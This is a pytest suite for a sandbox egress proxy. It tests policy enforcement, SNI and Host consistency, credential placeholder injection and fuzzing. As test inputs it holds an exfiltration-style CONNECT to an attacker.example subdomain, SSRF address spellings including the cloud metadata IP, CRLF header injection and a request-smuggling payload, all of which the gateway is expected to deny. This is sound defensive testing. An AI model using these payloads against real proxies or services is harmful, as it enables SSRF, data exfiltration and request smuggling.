"""The proxy's behaviour over real sockets (in-process gateway in the host namespace, identity injected):
CONNECT and absolute-form HTTP, L7 rules, Host/SNI/CONNECT-target consistency, tunnel relaying, address
spellings, DNS only for allowed names, credential placeholders, monitor mode, hot reload."""

from __future__ import annotations

import json
import socket
import ssl

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from clawfleet.gateway.addr import TargetError, parse_authority

from .support import SECRET_VALUE, _response, connect, https, request, tls_over, ws_frame


def test_allowed_tls_request_reaches_origin(gw, origins):
    status, _, body = https(gw, origins, "GET", "/ok/a?x=1")
    assert status == 200
    assert json.loads(body)["path"] == "/ok/a?x=1"
    rec = [r for r in gw.records() if r.get("kind") == "tls_request"][-1]
    assert rec["decision"] == "allow" and rec["rule"] == "origin" and rec["digest"].startswith("sha256:")
    assert {"time", "sandbox", "binary", "pid", "host", "port", "method", "path", "decision", "rule"} <= set(rec)


def test_denied_path_gets_403_json_naming_rule_and_reason(gw, origins):
    status, headers, body = https(gw, origins, "DELETE", "/ok/a")
    assert status == 403
    doc = json.loads(body)
    assert doc["error"] == "policy_denied" and doc["rule"] == "origin"
    assert "DELETE" in doc["detail"] and "no rule" in doc["reason"]
    assert headers["content-type"] == "application/json"


def test_keep_alive_two_requests_one_tunnel(gw, origins):
    port = origins["https"].port
    sock, status, _ = connect(gw, f"origin.test:{port}")
    assert status == 200
    with tls_over(gw, sock, "origin.test") as tls:
        assert request(tls, "GET", "/ok/1", f"origin.test:{port}")[0] == 200
        assert request(tls, "POST", "/api/x", f"origin.test:{port}", body=b"hello")[0] == 200
    assert origins["https"].seen[-1]["body"] == "hello"


def test_wrong_binary_is_denied_at_connect(gw, origins):
    gw.binary = "/usr/bin/python3.11"
    sock, status, body = connect(gw, f"origin.test:{origins['https'].port}")
    sock.close()
    assert status == 403
    assert "not listed in the binaries" in json.loads(body)["reason"]


def test_unknown_host_denied_and_never_resolved(gw):
    sock, status, body = connect(gw, "c2VjcmV0.exfil.attacker.example:443")
    sock.close()
    assert status == 403 and "no matching policy" in json.loads(body)["reason"]
    assert gw.resolved == []  # the gateway does not even look the name up


def test_wrong_port_denied(gw, origins):
    sock, status, _ = connect(gw, "origin.test:1")
    sock.close()
    assert status == 403


@pytest.mark.parametrize(
    "authority",
    ["2130706433:443", "0x7f.1:443", "017700000001:443", "127.1:443", "0177.0.0.1:443", "[::1]:443",
     "[::ffff:127.0.0.1]:443", "127.0.0.1:443", "169.254.169.254:80", "[fe80::1]:443", "0.0.0.0:443",
     "localhost:443", "[::ffff:7f00:1]:443", "origin.test:0", "origin.test:+443", "origin.test", "a b:443",
     "user@origin.test:443", "origin.test:443/x", "[::1%lo]:443", "ORIGIN.TEST:99999"],
)  # fmt: skip
def test_connect_target_spellings_refused(gw, authority):
    sock, status, _ = connect(gw, authority)
    sock.close()
    assert status in (400, 403)
    assert gw.resolved == []


def test_sni_must_match_connect_target(gw, origins):
    sock, status, _ = connect(gw, f"origin.test:{origins['https'].port}")
    assert status == 200
    with tls_over(gw, sock, "other.test", check_hostname=False) as tls:
        status, _, body = request(tls, "GET", "/ok/a", f"origin.test:{origins['https'].port}")
    assert status == 403 and "SNI" in json.loads(body)["reason"]


def test_host_header_must_match_connect_target(gw, origins):
    sock, status, _ = connect(gw, f"origin.test:{origins['https'].port}")
    with tls_over(gw, sock, "origin.test") as tls:
        status, _, body = request(tls, "GET", "/ok/a", "other.test")
    assert status == 403 and "Host" in json.loads(body)["reason"]


@pytest.mark.parametrize("target", ["http://other.test/ok/a", "https://other.test/ok/a", "other.test:443"])
def test_no_relaying_inside_a_tunnel(gw, origins, target):
    port = origins["https"].port
    sock, status, _ = connect(gw, f"origin.test:{port}")
    with tls_over(gw, sock, "origin.test") as tls:
        method = "CONNECT" if not target.startswith("http") else "GET"
        status, _, _ = request(tls, method, target, f"origin.test:{port}")
    assert status == 403


def test_absolute_form_plain_http_gets_the_same_l7_check(gw, origins):
    port = origins["http"].port
    with socket.create_connection(("127.0.0.1", gw.port), timeout=10) as sock:
        assert request(sock, "GET", f"http://plain.test:{port}/r", f"plain.test:{port}")[0] == 200
        status, _, body = request(sock, "POST", f"http://plain.test:{port}/r", f"plain.test:{port}", body=b"x")
    assert status == 403 and json.loads(body)["rule"] == "origin"
    assert origins["http"].seen[-1]["path"] == "/r"  # forwarded in origin form


def test_absolute_form_host_header_mismatch(gw, origins):
    port = origins["http"].port
    with socket.create_connection(("127.0.0.1", gw.port), timeout=10) as sock:
        status, _, _ = request(sock, "GET", f"http://plain.test:{port}/r", "evil.example")
    assert status == 403


@pytest.mark.parametrize("target", ["https://origin.test/ok", "/ok/a", "http://2130706433/", "http://u@plain.test/",
                                    "ftp://plain.test/", "http://plain.test:99999/"])  # fmt: skip
def test_bad_absolute_targets(gw, target):
    with socket.create_connection(("127.0.0.1", gw.port), timeout=10) as sock:
        status, _, _ = request(sock, "GET", target, "plain.test")
    assert status in (400, 403)


def test_passthrough_endpoint_is_not_intercepted(gw, origins, pki):
    port = origins["https"].port
    sock, status, _ = connect(gw, f"pass.test:{port}")
    assert status == 200
    # the client trusts only the ORIGIN's CA: the handshake works only if the gateway did not intercept
    with tls_over(gw, sock, "pass.test", ca=pki["ca"]) as tls:
        assert request(tls, "DELETE", "/anything", f"pass.test:{port}")[0] == 200


def test_placeholder_replaced_only_for_bound_host(gw, origins):
    hdr = {"Authorization": "Bearer clawfleet:secret:GITHUB_TOKEN", "X-Other": "openshell:resolve:env:GITHUB_TOKEN"}
    assert https(gw, origins, "GET", "/ok/s", headers=hdr)[0] == 200
    seen = {k.lower(): v for k, v in origins["https"].seen[-1]["headers"].items()}
    assert seen["authorization"] == f"Bearer {SECRET_VALUE}" and seen["x-other"] == SECRET_VALUE
    # plain.test is not bound (and is plain HTTP): the placeholder passes unchanged
    port = origins["http"].port
    with socket.create_connection(("127.0.0.1", gw.port), timeout=10) as sock:
        request(sock, "GET", f"http://plain.test:{port}/s", f"plain.test:{port}", hdr)
    seen = {k.lower(): v for k, v in origins["http"].seen[-1]["headers"].items()}
    assert seen["authorization"] == "Bearer clawfleet:secret:GITHUB_TOKEN"
    assert SECRET_VALUE not in gw.log_path.read_text()


def test_placeholder_in_basic_auth(gw, origins):
    import base64

    cred = base64.b64encode(b"x-access-token:clawfleet:secret:GITHUB_TOKEN").decode()
    assert https(gw, origins, "GET", "/ok/b", headers={"Authorization": f"Basic {cred}"})[0] == 200
    got = {k.lower(): v for k, v in origins["https"].seen[-1]["headers"].items()}["authorization"].split()[1]
    assert base64.b64decode(got).decode() == f"x-access-token:{SECRET_VALUE}"


def test_monitor_mode_allows_and_logs_would_be_denials(make_gateway, origins):
    gw = make_gateway(mode="monitor")
    gw.binary = "/usr/bin/wget"
    status, _, _ = https(gw, origins, "DELETE", "/nope")
    assert status == 200
    recs = [r for r in gw.records() if r.get("kind") in ("connect", "tls_request")]
    assert recs and all(r["decision"] == "deny" and r["action"] == "allow" and r["mode"] == "monitor" for r in recs)


def test_monitor_mode_keeps_the_destination_guard(make_gateway):
    gw = make_gateway(mode="monitor")
    sock, status, _ = connect(gw, "127.0.0.1:22")
    sock.close()
    assert status == 403


def test_garbage_gets_400_and_gateway_survives(gw, origins):
    for junk in (b"\x16\x03\x01\x00\x05hello\r\n\r\n", b"GET\r\n\r\n", b"G" * 70000, b"\x00\xff" * 10 + b"\r\n\r\n"):
        with socket.create_connection(("127.0.0.1", gw.port), timeout=10) as sock:
            sock.sendall(junk)
            sock.shutdown(socket.SHUT_WR)
            data = sock.recv(65536)
            assert data == b"" or data.startswith(b"HTTP/1.1 400")
    assert https(gw, origins, "GET", "/ok/alive")[0] == 200


def test_ambiguous_framing_refused(gw, origins):
    port = origins["https"].port
    sock, status, _ = connect(gw, f"origin.test:{port}")
    with tls_over(gw, sock, "origin.test") as tls:
        tls.sendall(
            f"POST /api/x HTTP/1.1\r\nHost: origin.test:{port}\r\nContent-Length: 5\r\n"
            "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n".encode()
        )
        status, _, _ = _response(tls)
    assert status == 400


def test_second_endpoint_deny_rules_not_skipped(make_gateway, origins):
    port = origins["https"].port
    text = f"""\
version: 1
network_policies:
  wide:
    name: wide
    endpoints: [{{host: origin.test, port: {port}}}]
    binaries: [{{path: /usr/bin/curl}}]
  guard:
    name: guard
    endpoints:
      - host: origin.test
        port: {port}
        allowed_ips: [127.0.0.1/32]
        protocol: rest
        access: full
        deny_rules: [{{method: DELETE, path: "/**"}}]
    binaries: [{{path: /usr/bin/curl}}]
"""
    gw = make_gateway(policy_text=text)
    assert https(gw, origins, "GET", "/x")[0] == 200
    status, _, body = https(gw, origins, "DELETE", "/x")
    assert status == 403 and json.loads(body)["rule"] == "guard"


def test_shared_socket_judged_by_every_owner(gw, origins):
    from clawfleet.gateway.ident import Caller

    owners = ((10, "/usr/bin/curl"), (11, "/usr/bin/python3.11"))
    gw.gateway.identify = lambda peer, local: Caller(10, "/usr/bin/curl", (), owners)
    sock, status, body = connect(gw, f"origin.test:{origins['https'].port}")
    sock.close()
    assert status == 403 and "socket shared with /usr/bin/python3.11" in json.loads(body)["reason"]


def test_pin_mismatch_and_unidentified_caller_denied(gw, origins):
    from clawfleet.gateway.ident import Caller, IdentityError

    gw.gateway.identify = lambda peer, local: Caller(10, "/usr/bin/curl", pin_error="binary /usr/bin/curl changed")
    sock, status, body = connect(gw, f"origin.test:{origins['https'].port}")
    sock.close()
    assert status == 403 and "changed" in json.loads(body)["reason"]

    def unknown(peer, local):
        raise IdentityError("caller exited")

    gw.gateway.identify = unknown
    sock, status, body = connect(gw, f"origin.test:{origins['https'].port}")
    sock.close()
    assert status == 403 and json.loads(body)["reason"].startswith("caller not identified")


_HOSTS = ["origin.test", "ORIGIN.TEST", "origin.test.", "origin.test..", "xorigin.test", "origin.tes", "pass.test",
          "127.0.0.1", "2130706433", "0x7f.1", "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "origin",
          "origin.test%00", "origin.test\\", "o\u0155igin.test", "*.test", "plain.test", "[origin.test]"]  # fmt: skip


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    host=st.sampled_from(_HOSTS) | st.text(alphabet=st.characters(min_codepoint=33, max_codepoint=126), max_size=30),
    port=st.sampled_from(["{hp}", "0{hp}", "+{hp}", "{hp}0", "", "{pp}", "65536", "-1", "{hp}/x", "{hp}@evil"]),
)
def test_connect_target_fuzz_no_bypass(gw, origins, host, port):
    """Whatever the spelling: 200 only for a target that parses to an allowed (host, port); never a hang."""
    hp, pp = origins["https"].port, origins["http"].port
    authority = host + (":" + port.format(hp=hp, pp=pp) if port else "")
    allowed = {("origin.test", hp), ("pass.test", hp), ("plain.test", pp)}
    try:
        t = parse_authority(authority)
        expect_ok = (t.host, t.port) in allowed
    except TargetError:
        expect_ok = False
    with socket.create_connection(("127.0.0.1", gw.port), timeout=10) as sock:
        sock.sendall(b"CONNECT " + authority.encode("utf-8", "surrogateescape") + b" HTTP/1.1\r\nHost: x\r\n\r\n")
        data = sock.recv(4096)
    status = int(data.split(b" ", 2)[1]) if data.startswith(b"HTTP/1.1 ") else 0
    assert (status == 200) == expect_ok, (authority, data[:200])
    assert status in (200, 400, 403)


@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    method=st.sampled_from([b"GET", b"POST", b"CONNECT", b"get", b"G\x00T", b""]),
    target=st.sampled_from([b"http://plain.test:{pp}/r", b"http://PLAIN.test.:{pp}/r", b"http://2130706433:{pp}/",
                            b"http://plain.test:{pp}@evil/", b"/r", b"*", b"http://plain.test:{pp}/%2e%2e/x"])
    | st.binary(max_size=40),
    host=st.sampled_from([b"plain.test:{pp}", b"evil.test", b"", b"plain.test:{pp}\r\nHost: evil"]),
)  # fmt: skip
def test_request_fuzz_no_crash_no_hang(gw, origins, method, target, host):
    pp = str(origins["http"].port).encode()
    target, host = target.replace(b"{pp}", pp), host.replace(b"{pp}", pp)
    with socket.create_connection(("127.0.0.1", gw.port), timeout=10) as sock:
        sock.sendall(method + b" " + target + b" HTTP/1.1\r\nHost: " + host + b"\r\nContent-Length: 0\r\n\r\n")
        sock.shutdown(socket.SHUT_WR)
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
    if data:
        status = int(data.split(b" ", 2)[1])
        if status == 200:  # only the exact allowed, well-formed GET gets through
            assert method == b"GET" and host == b"plain.test:" + pp and target.startswith(b"http://")
        else:
            assert status in (400, 403)
    assert https(gw, origins, "GET", "/ok/alive")[0] == 200


def test_websocket_upgrade_relayed_after_101(make_gateway, pki):
    import threading

    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(pki["cert"], pki["key"])
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen()
    port = srv.getsockname()[1]

    def serve():
        conn, _ = srv.accept()
        with ctx.wrap_socket(conn, server_side=True) as s:
            buf = b""
            while b"\r\n\r\n" not in buf:
                buf += s.recv(4096)
            s.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n")
            while data := s.recv(4096):
                s.sendall(data.upper())

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    text = f"""\
version: 1
network_policies:
  ws:
    name: ws
    endpoints:
      - {{host: origin.test, port: {port}, protocol: websocket, rules: [{{allow: {{method: GET, path: "/ws"}}}},
          {{allow: {{method: WEBSOCKET_TEXT, path: "/ws"}}}}]}}
    binaries: [{{path: /usr/bin/curl}}]
"""
    gw = make_gateway(policy_text=text)
    sock, status, _ = connect(gw, f"origin.test:{port}")
    assert status == 200
    with tls_over(gw, sock, "origin.test") as tls:
        upgrade = "Upgrade: websocket\r\nConnection: Upgrade\r\n"
        tls.sendall(f"GET /ws HTTP/1.1\r\nHost: origin.test:{port}\r\n{upgrade}\r\n".encode())
        head = b""
        while b"\r\n\r\n" not in head:
            head += tls.recv(4096)
        assert head.startswith(b"HTTP/1.1 101")
        frame = ws_frame(0x1, b"hello frames")  # a message the WEBSOCKET_TEXT rule allows, relayed as sent
        tls.sendall(frame)
        assert tls.recv(4096) == frame.upper()
    srv.close()


# -- allowed_ips belongs to the rule that allowed the caller (finding 2 of issue 14) -----------------------


def _loopback_for_curl_policy(port: int) -> str:
    """curl may reach localhost:PORT on loopback; python3 is allowed the same host:port without allowed_ips;
    a second curl rule allows more paths there, also without allowed_ips."""
    return f"""\
version: 1
network_policies:
  curl_local:
    name: curl_local
    endpoints:
      - host: localhost
        port: {port}
        allowed_ips: [127.0.0.1/32]
        protocol: rest
        rules: [{{allow: {{method: GET, path: "/a/**"}}}}]
    binaries: [{{path: /usr/bin/curl}}]
  curl_wide:
    name: curl_wide
    endpoints:
      - host: localhost
        port: {port}
        protocol: rest
        rules: [{{allow: {{method: GET, path: "/b/**"}}}}]
    binaries: [{{path: /usr/bin/curl}}]
  python_local:
    name: python_local
    endpoints: [{{host: localhost, port: {port}}}]
    binaries: [{{path: /usr/bin/python3.11}}]
"""


def test_loopback_granted_to_curl_is_not_lent_to_python(make_gateway, origins):
    port = origins["http"].port
    gw = make_gateway(policy_text=_loopback_for_curl_policy(port))
    gw.binary = "/usr/bin/python3.11"
    sock, status, body = connect(gw, f"localhost:{port}")
    sock.close()
    assert status == 403 and "is not granted (allowed_ips)" in json.loads(body)["reason"]
    with socket.create_connection(("127.0.0.1", gw.port), timeout=10) as sock:
        status, _, body = request(sock, "GET", f"http://localhost:{port}/a/x", f"localhost:{port}")
    assert status == 403 and "is not granted (allowed_ips)" in json.loads(body)["reason"]
    assert not any(s["path"] == "/a/x" for s in origins["http"].seen)


def test_loopback_granted_to_curl_reaches_its_rule_only(make_gateway, origins):
    """The allowed twin (curl, the rule that grants loopback), and a request allowed only by curl's rule
    without the grant is refused on the loopback connection, in a tunnel and in absolute form."""
    port = origins["http"].port
    gw = make_gateway(policy_text=_loopback_for_curl_policy(port))
    sock, status, _ = connect(gw, f"localhost:{port}")
    assert status == 200
    with sock:
        assert request(sock, "GET", "/a/tunnel", f"localhost:{port}")[0] == 200
        status, _, body = request(sock, "GET", "/b/tunnel", f"localhost:{port}")
    assert status == 403 and "is not granted (allowed_ips)" in json.loads(body)["reason"]
    with socket.create_connection(("127.0.0.1", gw.port), timeout=10) as sock:
        assert request(sock, "GET", f"http://localhost:{port}/a/abs", f"localhost:{port}")[0] == 200
        status, _, body = request(sock, "GET", f"http://localhost:{port}/b/abs", f"localhost:{port}")
    assert status == 403 and "is not granted (allowed_ips)" in json.loads(body)["reason"]
    paths = [s["path"] for s in origins["http"].seen]
    assert "/a/tunnel" in paths and "/a/abs" in paths
    assert "/b/tunnel" not in paths and "/b/abs" not in paths


# -- identification off the event loop (finding 4 of issue 14) -----------------------------------------------


def test_slow_identification_blocks_neither_the_loop_nor_another_sandbox(gw, origins):
    """Sandbox A's identification hangs (a huge fd load, say) in its identifier's thread; sandbox B, served by the
    same event loop, still gets its answer. Before, identification ran on the loop and B waited for A."""
    import asyncio
    import threading

    from clawfleet.gateway.ident import Caller, Identifier
    from clawfleet.gateway.proxy import Gateway

    release, entered = threading.Event(), threading.Event()

    class Stuck(Identifier):
        def identify(self, peer, local):
            entered.set()
            release.wait(30)
            return Caller(pid=1, exe="/usr/bin/curl", owners=((1, "/usr/bin/curl"),))

    sandbox_a = Gateway(gw.config, gw.holder, gw.log, Stuck(stop_at_ns_init=False).identify_async, gw.ca)
    lsock = socket.socket()
    lsock.bind(("127.0.0.1", 0))
    lsock.listen()
    port_a = lsock.getsockname()[1]
    asyncio.run_coroutine_threadsafe(sandbox_a.serve_socket(lsock), gw.loop).result(5)
    try:
        a = socket.create_connection(("127.0.0.1", port_a), timeout=30)
        a.sendall(f"CONNECT pass.test:{origins['https'].port} HTTP/1.1\r\nHost: pass.test\r\n\r\n".encode())
        assert entered.wait(10)
        status, _, _ = https(gw, origins, "GET", "/ok/while-a-is-stuck")  # sandbox B, same loop
        assert status == 200 and not release.is_set()
        release.set()
        assert a.recv(100).startswith(b"HTTP/1.1 200")
        a.close()
    finally:
        release.set()
        asyncio.run_coroutine_threadsafe(sandbox_a.close(), gw.loop).result(10)
